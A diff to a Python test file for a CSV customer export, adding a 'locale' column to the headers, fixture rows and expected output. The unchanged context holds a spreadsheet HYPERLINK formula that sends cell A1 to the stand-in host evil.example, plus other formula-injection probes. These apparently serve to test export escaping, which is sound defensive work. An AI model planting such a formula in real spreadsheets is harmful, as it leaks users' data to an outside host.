@@ -31,6 +31,7 @@ CUSTOMER_HEADER = [
     "region",
     "country",
     "surcharge",
+    "locale",
 ]
 HEADERS = {"products": PRODUCT_HEADER, "customers": CUSTOMER_HEADER}
 FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Clic aquí")'
@@ -51,6 +52,7 @@ CUSTOMER_ROWS = [
         "taxId": "LOPE800101AB1",
         "address": "Av. Reforma 1, piso 2\nCiudad de México",
         "phone": "+52 55 1234 5678",
+        "locale": "en",
     },
     {"name": "Abarrotes Díaz", "email": "", "taxId": "", "address": "", "phone": ""},
     {"name": FORMULA, "email": "x@example.com", "taxId": "-1", "address": '"Casa"', "phone": "@1"},
@@ -161,7 +163,7 @@ def test_customer_export_keeps_commas_quotes_and_line_breaks(client, make_user):
     create_all(client, CUSTOMERS, operator, CUSTOMER_ROWS[:2])
     assert parse(export(client, CUSTOMERS, operator)) == [
         CUSTOMER_HEADER,
-        ["Abarrotes Díaz", "", "", "", "", "", "", "", "", "false"],
+        ["Abarrotes Díaz", "", "", "", "", "", "", "", "", "false", ""],
         [
             "Ferretería López",
             "compras@lopez.example.mx",
@@ -173,6 +175,7 @@ def test_customer_export_keeps_commas_quotes_and_line_breaks(client, make_user):
             "",
             "",
             "false",
+            "en",
         ],
     ]
 
